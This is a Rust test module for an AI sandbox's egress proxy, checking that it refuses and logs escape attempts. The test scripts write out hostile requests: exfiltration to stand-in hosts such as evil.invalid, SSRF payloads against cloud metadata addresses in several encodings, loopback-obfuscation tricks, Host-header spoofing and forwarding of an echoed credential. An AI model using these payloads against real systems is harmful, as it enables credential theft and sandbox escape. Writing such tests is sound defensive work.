//! Attacks through the egress proxy, the sandbox's only way out. Every request goes to the
//! proxy the backend advertises in `HTTP_PROXY`, written by hand so the attack controls every
//! byte. Destinations are `.invalid` names (denied before any lookup) or host loopback
//! listeners that record whatever reaches them; the proxy's own report must show each denial.

use std::net::IpAddr;

use claw_runtime::egress::{EgressEvent, EgressOutcome};
use claw_runtime::policy::{Injection, SecretRule, SecretValue};

use super::harness::{allow, base_policy, Ctx, Outcome, Script};
use super::host::{token, HttpCatcher, TcpCatcher};

/// Sends each argument (a request head with `\n` for line breaks, then optionally a blank line
/// and a body) through the proxy as step `req<i>`.
const THROUGH_PROXY: &str = r#"
result("proxy", os.environ.get("HTTP_PROXY", "unset"))
for i, request in enumerate(ARGS):
    head, _, body = request.partition("\n\n")
    via_proxy(f"req{i}", head.replace("\n", "\r\n") + "\r\n\r\n" + body)
"#;

fn get(url: &str, host_header: &str) -> String {
    format!("GET {url} HTTP/1.1\nHost: {host_header}\nConnection: close")
}

fn connect(authority: &str) -> String {
    format!("CONNECT {authority} HTTP/1.1\nHost: {authority}")
}

fn script(requests: &[String]) -> Script {
    requests
        .iter()
        .fold(Script::py(THROUGH_PROXY), |s, r| s.arg(r))
}

/// The secret every egress case uses: `Authorization: Bearer {value}` injected on requests to
/// `host`, over plain HTTP too when `plaintext` (the loopback catchers speak no TLS).
fn bearer_secret(placeholder: String, value: String, host: String, plaintext: bool) -> SecretRule {
    SecretRule {
        name: "api_token".into(),
        placeholder,
        value: SecretValue(value),
        injection: Injection::Header {
            name: "Authorization".into(),
            template: "Bearer {value}".into(),
        },
        plaintext_hosts: if plaintext {
            vec![host.clone()]
        } else {
            Vec::new()
        },
        hosts: vec![host],
    }
}

fn denials(out: &Outcome) -> Vec<&EgressEvent> {
    out.report()
        .egress
        .iter()
        .filter(|e| matches!(e.outcome, EgressOutcome::Denied { .. }))
        .collect()
}

/// Every request was refused and the proxy reported a denial for each; none was allowed.
fn assert_all_denied(out: &Outcome, requests: usize) {
    out.assert_completed();
    assert_ne!(out.result("proxy"), "unset", "no proxy was advertised");
    for i in 0..requests {
        out.assert_denied(&format!("req{i}"));
    }
    let allowed: Vec<_> = out
        .report()
        .egress
        .iter()
        .filter(|e| matches!(e.outcome, EgressOutcome::Allowed { .. }))
        .collect();
    assert!(allowed.is_empty(), "the proxy let through: {allowed:?}");
    assert!(
        denials(out).len() >= requests,
        "the proxy reported {} denials for {requests} refused requests: {:?}",
        denials(out).len(),
        out.report().egress
    );
}

fn assert_denial_for(out: &Outcome, host: &str, port: u16) {
    assert!(
        denials(out)
            .iter()
            .any(|e| e.host == host && e.port == port),
        "no denial recorded for {host}:{port}: {:?}",
        out.report().egress
    );
}

pub async fn proxy_unlisted_host(cx: Ctx) {
    let mut policy = base_policy();
    allow(&mut policy, "allowed.invalid", 80);
    allow(&mut policy, "allowed.invalid", 443);
    let requests = [
        get("http://evil.invalid/exfil?data=1", "evil.invalid"),
        get("http://allowed.invalid.evil.invalid/", "allowed.invalid"),
        connect("evil.invalid:443"),
        // The Host header must not be what decides: the request target is evil.
        get("http://evil.invalid/", "allowed.invalid"),
    ];
    let out = cx.run(&script(&requests), &policy).await;
    assert_all_denied(&out, requests.len());
    assert_denial_for(&out, "evil.invalid", 80);
    assert_denial_for(&out, "evil.invalid", 443);
}

pub async fn proxy_unlisted_port(cx: Ctx) {
    let mut policy = base_policy();
    allow(&mut policy, "allowed.invalid", 443);
    let requests = [
        get("http://allowed.invalid/", "allowed.invalid"),
        get("http://allowed.invalid:8443/", "allowed.invalid:8443"),
        connect("allowed.invalid:22"),
    ];
    let out = cx.run(&script(&requests), &policy).await;
    assert_all_denied(&out, requests.len());
    assert_denial_for(&out, "allowed.invalid", 80);
    assert_denial_for(&out, "allowed.invalid", 22);
}

pub async fn proxy_name_resolving_to_loopback(cx: Ctx) {
    let catcher = TcpCatcher::loopback();
    let port = catcher.port;
    // Allowlisted by name or literal — but every one of these is the host's loopback, and the
    // policy names no IP, so the proxy must refuse after resolving.
    let hosts = [
        "localhost",
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
    ];
    let mut policy = base_policy();
    for h in hosts {
        allow(&mut policy, h, port);
        // Allowlists may hold IPv6 hosts with or without brackets; grant both spellings.
        let bare = h.trim_start_matches('[').trim_end_matches(']');
        if bare != h {
            allow(&mut policy, bare, port);
        }
    }
    let requests: Vec<String> = hosts
        .iter()
        .map(|h| get(&format!("http://{h}:{port}/"), &format!("{h}:{port}")))
        .collect();
    let out = cx.run(&script(&requests), &policy).await;
    assert_eq!(
        catcher.connections(),
        vec![],
        "the proxy connected to host loopback"
    );
    assert_all_denied(&out, requests.len());
    assert_denial_for(&out, "localhost", port);
    // Every form was allowlisted, so each refusal must come from the address check, not from
    // an allowlist that happened to spell the host differently.
    let allowlist_refusals: Vec<_> = denials(&out)
        .into_iter()
        .filter(|e| matches!(&e.outcome, EgressOutcome::Denied { reason } if reason.contains("allowlist")))
        .collect();
    assert!(
        allowlist_refusals.is_empty(),
        "refused by the allowlist instead of the address check: {allowlist_refusals:?}"
    );
}

pub async fn proxy_connect_tunnel_to_loopback(cx: Ctx) {
    let catcher = TcpCatcher::loopback();
    let port = catcher.port;
    let mut policy = base_policy();
    allow(&mut policy, "127.0.0.1", port);
    allow(&mut policy, "localhost", port);
    let requests = [
        connect(&format!("127.0.0.1:{port}")),
        connect(&format!("localhost:{port}")),
        connect(&format!("[::1]:{port}")),
    ];
    let out = cx.run(&script(&requests), &policy).await;
    assert_eq!(
        catcher.connections(),
        vec![],
        "a CONNECT tunnel reached host loopback"
    );
    assert_all_denied(&out, requests.len());
    assert_denial_for(&out, "127.0.0.1", port);
}

pub async fn proxy_cloud_metadata(cx: Ctx) {
    let mut policy = base_policy();
    allow(&mut policy, "allowed.invalid", 80);
    let requests = [
        get(
            "http://169.254.169.254/latest/meta-data/",
            "169.254.169.254",
        ),
        get("http://2852039166/latest/meta-data/", "2852039166"),
        get("http://0xa9fea9fe/latest/meta-data/", "0xa9fea9fe"),
        get(
            "http://[::ffff:169.254.169.254]/latest/meta-data/",
            "[::ffff:169.254.169.254]",
        ),
        get(
            "http://metadata.google.internal/computeMetadata/v1/",
            "metadata.google.internal",
        ),
        connect("169.254.169.254:80"),
    ];
    let out = cx.run(&script(&requests), &policy).await;
    assert_all_denied(&out, requests.len());
    assert_denial_for(&out, "169.254.169.254", 80);
}

pub async fn placeholder_to_wrong_host(cx: Ctx) {
    // Two host listeners the policy names explicitly by IP (so the proxy may reach them): the
    // secret belongs to the first; the second is allowed but is not the secret's host.
    let owner = HttpCatcher::at("127.0.0.1");
    let other = HttpCatcher::at("127.0.0.2");
    let placeholder = token("PLACEHOLDER");
    let secret = token("realsecret");
    let mut policy = base_policy();
    for c in [&owner, &other] {
        allow(&mut policy, &c.addr.ip().to_string(), c.addr.port());
        policy.network.allow_ips.push(c.addr.ip());
    }
    // A plain-HTTP loopback catcher stands in for the real host: only the explicit opt-in
    // lets the value travel without TLS (see `secret_over_plain_http` for the refusal).
    policy.network.secrets.push(bearer_secret(
        placeholder.clone(),
        secret.clone(),
        "127.0.0.1".into(),
        true,
    ));
    policy.env.insert("API_TOKEN".into(), placeholder.clone());

    let url = |c: &HttpCatcher, path: &str| format!("http://{}{path}", c.addr);
    let body = format!("{{\"key\": \"{placeholder}\"}}");
    let auth = |c: &HttpCatcher, path: &str| {
        format!(
            "GET {} HTTP/1.1\nHost: {}\nAuthorization: Bearer {placeholder}\nConnection: close",
            url(c, path),
            c.addr
        )
    };
    let requests = [
        // 0: the legitimate use: the owner gets the real value.
        auth(&owner, "/owner"),
        // 1: the allowed-but-wrong host without a placeholder gets through (the path works) …
        get(&url(&other, "/plain"), &other.addr.to_string()),
        // 2, 3, 4: … but with the placeholder, in a header, the query or the body, it is refused.
        auth(&other, "/header"),
        get(
            &url(&other, &format!("/query?key={placeholder}")),
            &other.addr.to_string(),
        ),
        format!(
            "POST {} HTTP/1.1\nHost: {}\nContent-Type: application/json\nContent-Length: {}\nConnection: close\n\n{body}",
            url(&other, "/body"),
            other.addr,
            body.len(),
        ),
    ];
    let out = cx.run(&script(&requests), &policy).await;

    out.assert_completed()
        .assert_ok("req0")
        .assert_ok("req1")
        .assert_denied("req2")
        .assert_denied("req3")
        .assert_denied("req4")
        .assert_absent(&secret);
    let owner_saw = owner.requests();
    assert!(
        owner_saw.iter().any(|r| r.contains(&secret)),
        "the secret's own host did not receive the injected value: {owner_saw:?}"
    );
    assert!(
        owner_saw.iter().all(|r| !r.contains(&placeholder)),
        "the placeholder reached the secret's host unreplaced: {owner_saw:?}"
    );
    let other_saw = other.requests();
    assert_eq!(
        other_saw.len(),
        1,
        "the wrong host saw more than the plain request: {other_saw:?}"
    );
    assert!(other_saw
        .iter()
        .all(|r| !r.contains(&placeholder) && !r.contains(&secret)));
    let other_ip: IpAddr = other.addr.ip();
    assert_denial_for(&out, &other_ip.to_string(), other.addr.port());
}

/// A plain-HTTP request to a secret's host — on its own port, on 443, on 80 — would carry the
/// secret unencrypted: the proxy refuses each before connecting anywhere and records it; the
/// host's listener receives nothing and the value never appears.
pub async fn secret_over_plain_http(cx: Ctx) {
    let owner = HttpCatcher::at("127.0.0.3");
    let secret = token("realsecret");
    let ip = owner.addr.ip().to_string();
    let mut policy = base_policy();
    for port in [owner.addr.port(), 443, 80] {
        allow(&mut policy, &ip, port);
    }
    policy.network.allow_ips.push(owner.addr.ip());
    policy.network.secrets.push(bearer_secret(
        token("PLACEHOLDER"),
        secret.clone(),
        ip.clone(),
        false,
    ));
    let requests: Vec<String> = [owner.addr.port(), 443, 80]
        .iter()
        .map(|port| get(&format!("http://{ip}:{port}/x"), &format!("{ip}:{port}")))
        .collect();
    let out = cx.run(&script(&requests), &policy).await;
    out.assert_completed()
        .assert_denied("req0")
        .assert_denied("req1")
        .assert_denied("req2")
        .assert_absent(&secret);
    assert!(
        owner.requests().is_empty(),
        "the secret's host was reached over plain HTTP"
    );
    for port in [owner.addr.port(), 443, 80] {
        assert_denial_for(&out, &ip, port);
    }
    assert!(
        denials(&out)
            .iter()
            .all(|event| format!("{:?}", event.outcome).contains("only over TLS")),
        "{:?}",
        denials(&out)
    );
}

/// Asks the secret's host (which echoes the credential back in `Location`, `X-Echo` and its
/// body), prints the whole response, then tries to carry what came back to another allowed
/// host in a header, the query and the body.
const ECHO_AND_FORWARD: &str = r#"
owner, other, placeholder = ARGS
def exchange(request):
    s = socket.create_connection(proxy_addr(), timeout=10)
    try:
        s.sendall(request.encode())
        data = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        return data.decode(errors="replace")
    finally:
        s.close()
echoed = exchange(f"GET http://{owner}/login HTTP/1.1\r\nHost: {owner}\r\nAuthorization: Bearer {placeholder}\r\nConnection: close\r\n\r\n")
print("ECHOED-RESPONSE-BEGIN")
print(echoed)
print("ECHOED-RESPONSE-END")
head, _, body = echoed.partition("\r\n\r\n")
headers = dict((k.lower(), v) for k, v in (l.split(": ", 1) for l in head.split("\r\n")[1:] if ": " in l))
result("echo_status", head.split(" ")[1] if " " in head else "none")
carried = headers.get("x-echo", "") + headers.get("location", "") + body
import urllib.parse
fwd = urllib.parse.quote(carried, safe="")
request = f"POST http://{other}/fwd?c={fwd} HTTP/1.1\r\nHost: {other}\r\nX-Carried: {fwd}\r\nContent-Length: {len(fwd)}\r\nConnection: close\r\n\r\n{fwd}"
via_proxy("forward", request)
"#;

/// An upstream that repeats the credential it received — in `Location`, another header and
/// its body — must not hand the real value to the sandbox: it arrives masked, so nothing the
/// program forwards to another allowed host carries it either.
pub async fn secret_echoed_by_upstream(cx: Ctx) {
    let owner = HttpCatcher::echoing("127.0.0.4");
    let other = HttpCatcher::at("127.0.0.5");
    let placeholder = token("PLACEHOLDER");
    let secret = token("realsecret");
    let mut policy = base_policy();
    for c in [&owner, &other] {
        allow(&mut policy, &c.addr.ip().to_string(), c.addr.port());
        policy.network.allow_ips.push(c.addr.ip());
    }
    let owner_ip = owner.addr.ip().to_string();
    // The loopback catcher speaks plain HTTP, as a LAN appliance would.
    policy.network.secrets.push(bearer_secret(
        placeholder.clone(),
        secret.clone(),
        owner_ip.clone(),
        true,
    ));
    let script = Script::py(ECHO_AND_FORWARD)
        .arg(owner.addr)
        .arg(other.addr)
        .arg(&placeholder);
    let out = cx.run(&script, &policy).await;

    out.assert_completed().assert_absent(&secret);
    // The upstream really did echo the real value: it received it, and echoes what it receives.
    assert!(
        owner.requests().iter().any(|r| r.contains(&secret)),
        "the secret's host never received the value, so nothing was echoed: {:?}",
        owner.requests()
    );
    assert_eq!(out.result("echo_status"), "302", "{out:?}");
    // Masked in place, once per echo (Location, X-Echo, body), not dropped.
    let mask = "*".repeat(secret.len());
    assert!(
        out.stdout.matches(&mask).count() >= 3,
        "the echoed value is not masked in the Location, X-Echo and body:\n{out:?}"
    );
    // What the program carried on did reach the other host — masked.
    out.assert_ok("forward");
    let other_saw = other.requests();
    let quoted_mask = "%2A".repeat(secret.len());
    assert!(
        other_saw.iter().any(|r| r.contains(&quoted_mask)),
        "the forward did not arrive: {other_saw:?}"
    );
    assert!(
        other_saw.iter().all(|r| !r.contains(&secret)),
        "the real value reached another host: {other_saw:?}"
    );
}
